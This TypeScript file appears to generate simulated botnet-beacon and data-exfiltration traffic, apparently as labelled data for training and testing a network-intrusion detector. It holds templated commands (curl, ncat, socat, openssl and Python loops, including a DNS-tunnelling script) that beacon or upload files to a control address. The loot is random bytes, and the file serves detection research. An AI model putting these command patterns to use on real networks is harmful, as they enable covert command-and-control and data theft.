/** What a device that was taken over sends out: beacons to whoever controls it, and what it stole. */
import type { Conversation, Range, Serving } from '../programs/conversation.ts';
import { fileURLToPath } from 'node:url';
import { conversation } from '../plan/habits.ts';
import { addressOf } from '../plan/site-plan.ts';
import { type EpisodePlan, type Family, type Stage, between, byPart, episode, spread } from './episode.ts';
import { runOwn } from './scan.ts';

const life = fileURLToPath(new URL('../programs/life.ts', import.meta.url));
const ports = {
  http: [80, 8080, 8000, 4444],
  https: [443, 8443, 4443],
  framed: [4444, 1337, 6667, 48_101, 23],
  names: [53],
  datagrams: [53, 123, 5683, 9999],
} as const;

interface Errand {
  readonly tool: string;
  readonly step: string;
  readonly argv: string[];
  readonly files?: Readonly<Record<string, string>>;
  readonly servings: readonly Serving[];
}
type Make = (stage: Stage, from: string, control: string, seconds: number) => Errand;

const errand =
  (
    label: Extract<EpisodePlan['class'], 'botnet_beacon' | 'data_exfiltration'>,
    secondsOf: (stage: Stage) => number,
    choose: (stage: Stage) => Make,
  ): Family =>
  (stage) => {
    const infected = stage.random.pick(stage.site.devices);
    const control = stage.freshAddress();
    const seconds = secondsOf(stage);
    const from = addressOf(stage.site, infected);
    const { tool, step, argv, files = {}, servings } = choose(stage)(stage, from, control, seconds);
    return episode({
      class: label,
      tool,
      step,
      seconds,
      origin: infected,
      argv,
      files,
      servings,
      control,
      truth: [between(from, control)],
      to: control,
    });
  };

const serving = (kind: Serving['kind'], address: string, port: number, isTls = false): Serving => ({
  kind,
  address,
  port,
  isTls,
});

/** One conversation of an implant, run like any honest one: only whom it talks to is different. */
function implant(
  stage: Stage,
  from: string,
  control: string,
  kind: Conversation['kind'],
  server: Serving,
  everyMs: number,
  more: Partial<Conversation>,
  jitter: number,
): Errand {
  const { random } = stage;
  const talk = conversation(
    { random, from, from6: null },
    kind,
    control,
    server.port,
    { kind: 'clock', everyMs, jitter },
    { isTls: server.isTls, ...more },
  );
  const plan = { servers: [], conversations: [talk], storms: [], certificate: '', key: '' };
  const sizes = `${talk.sends.join('-')} B out, ${talk.asks.join('-')} B in, ${talk.per.join('-')} at a time`;
  return {
    tool: `own ${kind}`,
    step: `own ${kind}${server.isTls ? ' TLS' : ''} every ${everyMs.toFixed(0)} ms ±${(jitter * 100).toFixed(0)} %, ${sizes}`,
    argv: runOwn(life, '{folder}/plan'),
    files: { plan: JSON.stringify(plan) },
    servings: [server],
  };
}

const about = (stage: Stage, low: number, high: number): Range => {
  const size = Math.round(spread(stage.random, low, high));
  return stage.random.next() < 0.5 ? [size, size] : [Math.round(size * 0.7), Math.round(size * 1.5)];
};

/** Pauses of half a second to half a minute; long ones get the time that a dozen of them need. */
const beaconPause = (seconds: number): number => (seconds * 1000) / 12;

const ownBeacon: Make = (stage, from, control, seconds) => {
  const { random } = stage;
  const everyMs = beaconPause(seconds) * random.between(0.3, 1.2);
  const jitter = random.pick([0, 0, 0.05, 0.1, 0.2, 0.3, 0.5]);
  const small = { sends: about(stage, 4, 300), asks: about(stage, 2, 200), thinks: [1, 40] as Range };
  return random.pick([
    () =>
      implant(
        stage,
        from,
        control,
        'http',
        serving('http', control, random.pick(ports.http)),
        everyMs,
        random.next() < 0.5 ? { ...small, sends: [0, 0] } : small,
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'http',
        serving('http', control, random.pick(ports.https), true),
        everyMs,
        random.next() < 0.5 ? { ...small, sends: [0, 0] } : small,
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'kept',
        serving('framed', control, random.pick(ports.framed)),
        everyMs,
        { ...small, per: [1, 1] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'kept',
        serving('framed', control, random.pick(ports.framed)),
        everyMs / 3,
        { ...small, per: [5, 60] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'name',
        serving('names', control, 53),
        everyMs / 2,
        { sends: about(stage, 8, 50) },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'ask',
        serving('datagrams', control, random.pick(ports.datagrams)),
        everyMs / 2,
        { ...small, sends: about(stage, 8, 200) },
        jitter,
      ),
  ])();
};

const loop = (
  tool: string,
  what: string,
  everyMs: number,
  jitter: number,
  command: string,
  servings: readonly Serving[],
  seed: number,
): Errand => ({
  tool,
  step: `${tool} ${what} every ${everyMs.toFixed(0)} ms ±${(jitter * 100).toFixed(0)} %`,
  argv: [
    'bash',
    '-c',
    `RANDOM=${seed % 32_768}; while :; do ${command}; sleep "$(awk -v r=$RANDOM 'BEGIN{printf "%.3f", ${(everyMs / 1000).toFixed(3)}*(1+${jitter}*(r/16384-1))}')"; done`,
  ],
  servings,
});

const curlBeacon: Make = ({ random }, from, control, seconds) => {
  const isTls = random.next() < 0.5;
  const port = random.pick(isTls ? ports.https : ports.http);
  const everyMs = beaconPause(seconds) * random.between(0.3, 1.2);
  const url = `http${isTls ? 's' : ''}://${control}:${port}/${random.word(8)}?size=${random.integer(0, 300)}`;
  const post = random.next() < 0.5 ? `-d ${random.word(random.integer(8, 300))}` : '';
  return loop(
    'curl',
    isTls ? 'https' : 'http',
    everyMs,
    random.pick([0, 0.1, 0.3, 0.5]),
    `curl -k -s -m 8 --interface ${from} ${post} -o /dev/null '${url}'`,
    [serving('http', control, port, isTls)],
    random.integer(1, 1e6),
  );
};

const ncatBeacon: Make = ({ random }, from, control, seconds) => {
  const port = random.pick(ports.framed);
  const everyMs = beaconPause(seconds) * random.between(0.3, 1.2);
  return loop(
    'ncat',
    'tcp',
    everyMs,
    random.pick([0, 0.1, 0.4]),
    `echo ${random.word(random.integer(10, 200))} | ncat -s ${from} -w 2 -i 1 ${control} ${port} >/dev/null`,
    [serving('telnet', control, port)],
    random.integer(1, 1e6),
  );
};

const pythonBeacon: Make = ({ random }, from, control, seconds) => {
  const isTls = random.next() < 0.5;
  const port = random.pick(isTls ? ports.https : ports.http);
  const every = (beaconPause(seconds) * random.between(0.3, 1.2)) / 1000;
  const jitter = random.pick([0, 0.15, 0.35]);
  const body = random.next() < 0.6 ? `b"${random.word(random.integer(6, 400))}"` : 'None';
  const script = `
import http.client, random, ssl, time
random.seed(${random.integer(1, 1e6)})
while True:
    try:
        made = ${isTls ? `http.client.HTTPSConnection("${control}", ${port}, timeout=8, source_address=("${from}", 0), context=ssl._create_unverified_context())` : `http.client.HTTPConnection("${control}", ${port}, timeout=8, source_address=("${from}", 0))`}
        made.request("POST" if ${body} else "GET", "/${random.word(6)}?size=${random.integer(0, 250)}", body=${body})
        made.getresponse().read()
        made.close()
    except OSError:
        pass
    time.sleep(${every.toFixed(3)} * (1 + ${jitter} * random.uniform(-1, 1)))
`;
  return {
    tool: 'python',
    step: `python ${isTls ? 'https' : 'http'} every ${(every * 1000).toFixed(0)} ms ±${jitter * 100} %`,
    argv: ['/usr/bin/python3', '{folder}/script'],
    files: { script },
    servings: [serving('http', control, port, isTls)],
  };
};

const opensslBeacon: Make = ({ random }, from, control, seconds) => {
  const everyMs = beaconPause(seconds) * random.between(0.4, 1.2);
  const port = random.pick(ports.https);
  return loop(
    'openssl',
    's_client',
    everyMs,
    random.pick([0, 0.2]),
    `printf 'GET /${random.word(5)} HTTP/1.0\\r\\n\\r\\n' | timeout 3 openssl s_client -quiet -bind ${from}:0 -connect ${control}:${port} >/dev/null 2>&1`,
    [serving('http', control, port, true)],
    random.integer(1, 1e6),
  );
};

export const beacon: Family = errand(
  'botnet_beacon',
  ({ random }) => Math.round(spread(random, 24, 110)),
  ({ part, random }) =>
    random.pick(
      byPart(part, {
        train: [ownBeacon],
        validation: [curlBeacon, ncatBeacon, ownBeacon],
        test: [pythonBeacon, pythonBeacon, opensslBeacon, curlBeacon],
      }),
    ),
);

const ownTheft: Make = (stage, from, control) => {
  const { random } = stage;
  const jitter = random.pick([0.1, 0.3, 0.5]);
  const bulk = random.next() < 0.5;
  const sends = bulk ? about(stage, 200_000, 4_000_000) : about(stage, 15_000, 200_000);
  const everyMs = bulk ? spread(random, 1200, 6000) : spread(random, 400, 4000);
  const isTls = random.next() < 0.5;
  return random.pick([
    () =>
      implant(
        stage,
        from,
        control,
        'http',
        serving('http', control, random.pick(isTls ? ports.https : ports.http), isTls),
        everyMs,
        { sends, asks: [5, 60], per: [1, random.pick([1, 1, 3])] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'http',
        serving('http', control, random.pick(isTls ? ports.https : ports.http), isTls),
        everyMs,
        { sends, asks: [5, 60], per: [1, random.pick([1, 1, 3])] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'kept',
        serving('framed', control, random.pick(ports.framed)),
        everyMs,
        { sends, asks: [2, 20], per: [1, 1] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'kept',
        serving('framed', control, random.pick(ports.framed)),
        everyMs / 2,
        { sends: about(stage, 8000, 90_000), asks: [2, 20], per: [20, 200] },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'name',
        serving('names', control, 53),
        spread(random, 30, 400),
        { sends: [40, 60], per: [1, 3], gapMs: 30 },
        jitter,
      ),
    () =>
      implant(
        stage,
        from,
        control,
        'tell',
        serving('datagrams', control, random.pick(ports.datagrams)),
        spread(random, 300, 2000),
        { sends: [600, 1400], per: [10, 200], gapMs: spread(random, 2, 40), share: random.pick([0, 1]) },
        jitter,
      ),
  ])();
};

const upload =
  (
    tool: string,
    commandOf: (stage: Stage, from: string, control: string) => { command: string; servings: Serving[]; what: string },
  ): Make =>
  (stage, from, control) => {
    const { random } = stage;
    const bytes = Math.round(spread(random, 20_000, 6_000_000));
    const everyMs = spread(random, 500, 5000);
    const { command, servings, what } = commandOf(stage, from, control);
    const made = loop(
      tool,
      `${what} ${bytes} B`,
      everyMs,
      0.3,
      `head -c $((${bytes} * (50 + RANDOM % 100) / 100)) /dev/urandom >{folder}/loot; ${command}`,
      servings,
      random.integer(1, 1e6),
    );
    return made;
  };

const curlUpload = upload('curl', ({ random }, from, control) => {
  const isTls = random.next() < 0.5;
  const port = random.pick(isTls ? ports.https : ports.http);
  return {
    what: isTls ? 'https' : 'http',
    servings: [serving('http', control, port, isTls)],
    command: `curl -k -s -m 40 --interface ${from} ${random.pick(['-T {folder}/loot', '--data-binary @{folder}/loot', '-F file=@{folder}/loot'])} -o /dev/null http${isTls ? 's' : ''}://${control}:${port}/${random.word(6)}?size=20`,
  };
});
const ncatUpload = upload('ncat', ({ random }, from, control) => {
  const port = random.pick(ports.framed);
  return {
    what: 'tcp',
    servings: [serving('silence', control, port)],
    command: `timeout 40 ncat -s ${from} --send-only ${control} ${port} <{folder}/loot`,
  };
});
const socatUpload = upload('socat', ({ random }, from, control) => {
  const port = random.pick(ports.framed);
  return {
    what: 'tcp',
    servings: [serving('silence', control, port)],
    command: `timeout 40 socat -u OPEN:{folder}/loot TCP:${control}:${port},bind=${from}`,
  };
});
const opensslUpload = upload('openssl', ({ random }, from, control) => {
  const port = random.pick(ports.https);
  return {
    what: 'tls',
    servings: [serving('framed', control, port, true)],
    command: `timeout 30 openssl s_client -quiet -bind ${from}:0 -connect ${control}:${port} <{folder}/loot >/dev/null 2>&1`,
  };
});

const pythonNames: Make = ({ random }, from, control) => {
  const gap = spread(random, 0.02, 0.4);
  const script = `
import random, socket, string, time
random.seed(${random.integer(1, 1e6)})
letters = string.ascii_lowercase + string.digits
while True:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.bind(("${from}", 0))
    made.settimeout(2)
    labels = ["".join(random.choice(letters) for _ in range(random.randint(30, 63))) for _ in range(random.randint(1, 3))] + ["t", "example"]
    query = random.randbytes(2) + bytes([1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b"".join(bytes([len(one)]) + one.encode() for one in labels) + bytes([0, 0, 16, 0, 1])
    try:
        made.sendto(query, ("${control}", 53))
        made.recv(600)
    except OSError:
        pass
    made.close()
    time.sleep(random.expovariate(1 / ${gap.toFixed(3)}))
`;
  return {
    tool: 'python',
    step: `python names every ${(gap * 1000).toFixed(0)} ms`,
    argv: ['/usr/bin/python3', '{folder}/script'],
    files: { script },
    servings: [serving('names', control, 53)],
  };
};

export const exfiltration: Family = errand(
  'data_exfiltration',
  ({ random }) => random.integer(20, 60),
  ({ part, random }) =>
    random.pick(
      byPart(part, {
        train: [ownTheft],
        validation: [curlUpload, socatUpload, ownTheft],
        test: [ncatUpload, opensslUpload, curlUpload, pythonNames],
      }),
    ),
);
